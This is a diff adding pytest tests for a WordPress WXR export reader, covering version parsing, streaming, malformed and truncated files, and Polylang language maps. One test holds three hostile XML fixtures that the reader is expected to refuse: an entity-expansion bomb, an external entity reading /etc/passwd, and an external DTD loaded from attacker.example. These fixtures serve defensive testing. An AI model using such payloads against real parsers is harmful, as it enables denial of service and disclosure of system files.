@@ -1,0 +1,77 @@
+"""Reading exports: every WXR version, streamed, and hostile or broken files refused before anything is written."""
+
+import pytest
+
+from wordpress import wxr
+
+from .exports import export, post, term, write
+
+
+@pytest.mark.parametrize("version", ["1.0", "1.1", "1.2"])
+def test_every_wxr_version_is_read(tmp_path, version):
+    text = export([post(5, "Hello", body="Body", excerpt="Short", terms=[term("category", "news", "News")])], version=version)
+    facts = list(wxr.read(write(tmp_path, "site.xml", text)))
+    site, author, item = facts
+    assert site.base_url == "https://en.example.org" and site.wxr_version == version
+    assert (author.login, author.display_name) == ("rania", "Rania Khalil")
+    assert (item.post_id, item.title, item.content, item.excerpt, item.status) == (5, "Hello", "Body", "Short", "publish")
+    assert item.terms_in("category")[0].slug == "news"
+
+
+def test_items_are_let_go_once_read(tmp_path):
+    path = write(tmp_path, "site.xml", export([post(n, f"Post {n}") for n in range(1, 50)]))
+    seen = []
+    for fact in wxr.read(path):
+        if isinstance(fact, wxr.Item):
+            seen.append(fact.post_id)
+    assert seen == list(range(1, 50))
+    assert wxr.check(path) == 49
+
+
+BOMB = """<?xml version="1.0"?>
+<!DOCTYPE rss [
+ <!ENTITY a "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa">
+ <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
+ <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
+ <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
+]>
+<rss><channel><title>&d;&d;&d;&d;&d;&d;&d;&d;</title></channel></rss>
+"""
+EXTERNAL = """<?xml version="1.0"?>
+<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<rss><channel><item><title>&secret;</title></item></channel></rss>
+"""
+NETWORK = """<?xml version="1.0"?>
+<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
+<rss><channel/></rss>
+"""
+
+
+@pytest.mark.parametrize("text", [BOMB, EXTERNAL, NETWORK], ids=["entity bomb", "external entity", "external DTD"])
+def test_hostile_files_are_refused(tmp_path, text):
+    with pytest.raises(wxr.HostileFile, match="refused"):
+        wxr.check(write(tmp_path, "evil.xml", text))
+
+
+def test_malformed_file_names_its_line(tmp_path):
+    text = export([post(1, "One")]).replace("<wp:post_id>1</wp:post_id>", "<wp:post_id>1</wp:post>")
+    with pytest.raises(wxr.MalformedFile) as caught:
+        wxr.check(write(tmp_path, "broken.xml", text))
+    assert caught.value.line > 1
+    assert "line" in str(caught.value)
+
+
+def test_truncated_file_is_refused(tmp_path):
+    text = export([post(1, "One"), post(2, "Two")])
+    with pytest.raises(wxr.MalformedFile):
+        wxr.check(write(tmp_path, "cut.xml", text[: len(text) // 2]))
+
+
+def test_other_xml_is_not_an_export(tmp_path):
+    with pytest.raises(wxr.NotAnExport):
+        wxr.check(write(tmp_path, "feed.xml", "<?xml version='1.0'?><html><body/></html>"))
+
+
+def test_polylang_groups_are_read_from_php_arrays():
+    assert wxr.php_language_map('a:2:{s:2:"en";i:398;s:2:"ar";s:3:"400";}') == {"en": 398, "ar": 400}
+    assert wxr.php_language_map('a:3:{s:2:"en";i:4;s:4:"sync";a:1:{s:2:"ar";s:2:"en";}}') == {"en": 4}
